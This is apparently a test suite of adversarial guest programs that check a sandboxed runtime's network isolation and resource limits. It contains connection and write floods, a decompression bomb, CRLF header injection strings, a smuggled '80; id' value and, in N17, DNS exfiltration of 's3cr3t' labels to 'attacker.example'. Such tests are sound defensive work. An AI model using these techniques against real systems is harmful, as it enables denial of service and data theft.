/** Class N: the network as a weapon against the host: connections, names, bytes and ends, as many and as odd as can be. */
import { hostileServers } from './hostile-servers.ts';
import { answered, anyOf, exited, failed, outOfMemory, type Program, timedOut } from './program.ts';

const ports = await hostileServers();
const network = { allow: [`127.0.0.1:${Object.values(ports).join(',')}`] };
const settings = { network, timeout: 3 };

/** A handler that finds the ports in `event` and `code`, which answers the code of a failure. */
const cjs = (body: string): string => `
const net = require('node:net'), http = require('node:http'), dns = require('node:dns'), tls = require('node:tls');
const codeOf = (run) => { try { const value = run(); return value === undefined ? 'done' : value; } catch (error) { return error.code ?? error.name; } };
const ended = (socket) => new Promise((resolve) => { socket.on('error', (error) => resolve(error.code ?? error.name)).on('close', () => resolve('closed')); });
exports.handler = async (event, context) => { ${body} };`;

export const networks: readonly Program[] = [
  {
    id: 'N01',
    title: 'connections without end to a server that never speaks',
    source: cjs(`
      const kept = globalThis.kept = [];
      for (;;) { for (let i = 0; i < 50; i++) { const socket = net.connect(event.silent, '127.0.0.1'); socket.on('error', () => {}); kept.push(socket); } await new Promise(setImmediate); }`),
    event: ports,
    settings,
    expect: anyOf(timedOut, failed(/./), outOfMemory),
  },
  {
    id: 'N02',
    title: 'half-open connections that are left behind with the answer',
    source: cjs(`
      const kept = globalThis.kept ??= [];
      await Promise.all(Array.from({ length: 100 }, () => new Promise((resolve) => { const socket = net.connect({ port: event.silent, host: '127.0.0.1', allowHalfOpen: true }, () => { socket.end('x'); resolve(); }); socket.on('error', resolve); kept.push(socket); })));
      return kept.length;`),
    event: ports,
    settings,
    expect: answered(100),
  },
  {
    id: 'N03',
    title: 'a server that floods a guest that never reads',
    source: cjs(`
      const kept = globalThis.kept = Array.from({ length: 100 }, () => { const socket = net.connect(event.flood, '127.0.0.1'); socket.on('error', () => {}); socket.pause(); return socket; });
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return kept.length;`),
    event: ports,
    settings,
    expect: anyOf(answered(100), outOfMemory),
  },
  {
    id: 'N04',
    title: 'a guest that floods a server that never reads',
    source: cjs(`
      const socket = net.connect(event.silent, '127.0.0.1');
      socket.on('error', () => {});
      const chunk = Buffer.alloc(65536);
      for (;;) { socket.write(chunk); await null; }`),
    event: ports,
    settings,
    expect: anyOf(timedOut, outOfMemory, failed(/./)),
  },
  {
    id: 'N05',
    title: 'the same, in turns of the event loop, on 100 connections',
    source: cjs(`
      const chunk = Buffer.alloc(65536);
      const sockets = Array.from({ length: 100 }, () => net.connect(event.silent, '127.0.0.1').on('error', () => {}));
      for (;;) { for (const socket of sockets) socket.write(chunk); await new Promise(setImmediate); }`),
    event: ports,
    settings,
    // What cannot be allocated is thrown where a stream calls back, which ends the runtime.
    expect: anyOf(timedOut, outOfMemory, exited, failed(/./)),
  },
  {
    id: 'N06',
    title: 'connections that are destroyed as soon as they are begun, 20,000 of them',
    source: cjs(`
      for (let i = 0; i < 20_000; i++) { const socket = net.connect(event.echo, '127.0.0.1'); socket.on('error', () => {}); socket.destroy(); if (i % 100 === 0) await new Promise(setImmediate); }
      return 1;`),
    event: ports,
    settings: { ...settings, timeout: 5 },
    expect: anyOf(answered(1), timedOut),
  },
  {
    id: 'N07',
    title: 'requests that are aborted before, while and after they begin, 5,000 of them',
    source: cjs(`
      let ends = 0;
      for (let round = 0; round < 50; round++) {
        await Promise.all(Array.from({ length: 100 }, async (_, index) => {
          const controller = new AbortController();
          if (index % 3 === 0) controller.abort();
          const answer = fetch('http://127.0.0.1:' + event.drip + '/', { signal: controller.signal }).then((response) => response.text()).catch(() => {});
          if (index % 3 === 1) controller.abort(); else setTimeout(() => controller.abort({ toString() { throw 1; } }), 1);
          await answer; ends++;
        }));
      }
      return ends;`),
    event: ports,
    settings: { ...settings, timeout: 10 },
    expect: anyOf(answered(5000), timedOut),
  },
  {
    id: 'N08',
    title: 'a response head without end',
    source: cjs(`
      const byHttp = await new Promise((resolve) => http.get({ port: event.endlessHead, host: '127.0.0.1' }, () => resolve('answered')).on('error', (error) => resolve(error.code)));
      const byFetch = await fetch('http://127.0.0.1:' + event.endlessHead).then(() => 'answered', (error) => error.name);
      return [byHttp, byFetch];`),
    event: ports,
    settings,
    expect: anyOf(answered(['HPE_HEADER_OVERFLOW', 'TypeError']), timedOut),
  },
  {
    id: 'N09',
    title: 'a response of 400 KB that unpacks to 400 MiB',
    source: cjs(
      `const bytes = await fetch('http://127.0.0.1:' + event.bomb).then((response) => response.arrayBuffer()); return bytes.byteLength;`,
    ),
    event: ports,
    settings: { ...settings, timeout: 10 },
    expect: anyOf(failed(/./), outOfMemory, timedOut),
  },
  {
    id: 'N10',
    title: 'redirects for ever, lengths that lie, connections that are reset',
    source: cjs(`
      const of = (port) => fetch('http://127.0.0.1:' + port, { method: 'POST', body: 'x' }).then((response) => response.text()).then(() => 'answered', (error) => error.name);
      return [await of(event.redirect), await of(event.liar), await of(event.reset)];`),
    event: ports,
    settings,
    expect: answered(['TypeError', 'TypeError', 'TypeError']),
  },
  {
    id: 'N11',
    title: 'addresses, ports and options that are none',
    source: cjs(`
      const evil = { toString() { return '127.0.0.1'; }, valueOf() { return 80; } };
      const odd = [-1, 65536, 1e9, NaN, '80; id', '0x50', evil, null, undefined, {}, [], Symbol('p'), 1n, '\\0', 'a'.repeat(1e6)];
      const outcomes = [];
      for (const value of odd) for (const make of [() => net.connect(value), () => net.connect({ port: value }), () => net.connect({ port: event.echo, host: value }), () => net.connect({ port: event.echo, host: '127.0.0.1', localAddress: value, localPort: value }), () => net.connect({ path: value }),
        () => net.connect({ port: event.echo, host: '127.0.0.1', lookup: value }), () => net.connect({ port: event.echo, host: 'x', lookup: (name, options, done) => done(null, [{ address: value, family: value }]) }), () => net.connect({ fd: value })]) {
        let socket; try { socket = make(); } catch (error) { outcomes.push(typeof (error.code ?? error.name)); continue; }
        outcomes.push('string'); socket?.on?.('error', () => {}); socket?.destroy?.();
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
      return outcomes.every((outcome) => outcome === 'string');`),
    event: ports,
    settings,
    expect: answered(true),
  },
  {
    id: 'N12',
    title: 'names that are none',
    source: cjs(`
      const names = ['\\0', 'a\\0b.example', 'a'.repeat(1e6), 'a.'.repeat(500), '..', '.', '-', '_x.example', '\\ud800', '\\u202e', 'xn--a', '127.0.0.1\\n', '127.0.0.1 ', '%61', '@', 'a b', '[::1]', '::1%lo', '0', '0x7f.1', 'localhost.localdomain', '${'ä'.repeat(300)}'];
      const told = async (ask) => { try { return (await ask()).address ?? 'told'; } catch (error) { return error.code ?? error.name; } };
      const codes = await Promise.all(names.flatMap((name) => [told(() => dns.promises.lookup(name)), told(() => dns.promises.resolve4(name)), told(() => dns.promises.reverse(name))]));
      return codes.filter((code) => !names.includes(code) && !/^(E[A-Z_]+|ERR_[A-Z_]+|TypeError|Error|0\\.0\\.0\\.0)$/.test(String(code)));`),
    event: ports,
    settings,
    expect: answered([]),
  },
  {
    id: 'N13',
    title: 'lines of a request inside its method, path and headers',
    source: cjs(`
      const tried = [];
      const evil = 'x\\r\\nInjected: 1\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: y';
      for (const options of [{ method: evil }, { path: '/' + evil }, { headers: { a: evil } }, { headers: { [evil]: 'a' } }, { headers: { Host: evil } }, { auth: evil }, { headers: ['a', evil] }]) {
        try { const request = http.request({ port: event.echo, host: '127.0.0.1', ...options }); request.on('error', () => {}); request.destroy(); tried.push(Object.keys(options)[0]); } catch {}
      }
      return tried;`),
    event: ports,
    settings,
    expect: answered(['auth']),
  },
  {
    id: 'N14',
    title: 'TLS to servers that speak something else, 200 at once',
    source: cjs(`
      const outcomes = await Promise.all(Array.from({ length: 200 }, (_, index) => ended(tls.connect({ port: index % 2 ? event.flood : event.echo, host: '127.0.0.1', rejectUnauthorized: false }))));
      return outcomes.length;`),
    event: ports,
    settings: { ...settings, timeout: 10 },
    expect: anyOf(answered(200), timedOut, failed(/./), outOfMemory),
  },
  {
    id: 'N15',
    title: 'servers, sockets and floods inside the guest',
    source: cjs(`
      const servers = globalThis.servers = [];
      const code = await new Promise((resolve) => { const more = () => { if (servers.length > 5000) return resolve('many'); const server = net.createServer((socket) => socket.pipe(socket)); server.on('error', (error) => resolve(error.code)); server.listen(0, more); servers.push(server); }; more(); });
      const socket = net.connect(servers[0].address().port);
      socket.on('error', () => {});
      for (;;) { socket.write(Buffer.alloc(65536)); await new Promise(setImmediate); }`),
    event: ports,
    settings,
    expect: anyOf(timedOut, outOfMemory, failed(/./)),
  },
  {
    id: 'N16',
    title: 'a guest that listens is reached by nobody outside',
    source: cjs(`
      const server = net.createServer(() => {}).listen(event.echo, '0.0.0.0');
      await new Promise((resolve) => server.on('listening', resolve).on('error', resolve));
      const heard = await new Promise((resolve) => { const socket = net.connect(event.silent, '127.0.0.1', () => resolve('host')); socket.on('error', (error) => resolve(error.code)); });
      server.close();
      return heard;`),
    event: ports,
    settings,
    expect: anyOf(answered('host'), answered('ECONNREFUSED')),
  },
  {
    id: 'N17',
    title: 'names with data in them, to name servers of an attacker',
    source: cjs(`
      let refused = 0;
      for (let i = 0; i < 300; i++) await dns.promises.resolveTxt('s3cr3t-' + i + '.attacker.example').catch((error) => { if (error.code === 'EACCES') refused++; });
      dns.setServers(['127.0.0.1:' + event.echo]);
      const own = new dns.promises.Resolver({ timeout: 100, tries: 1 }); own.setServers(['127.0.0.1:' + event.echo]);
      const codes = [await own.resolve4('x.attacker.example').catch((error) => error.code), await dns.promises.resolve4('x.attacker.example').catch((error) => error.code)];
      return [refused, codes.every((code) => typeof code === 'string')];`),
    event: ports,
    settings: { ...settings, timeout: 10 },
    expect: answered([300, true]),
  },
];
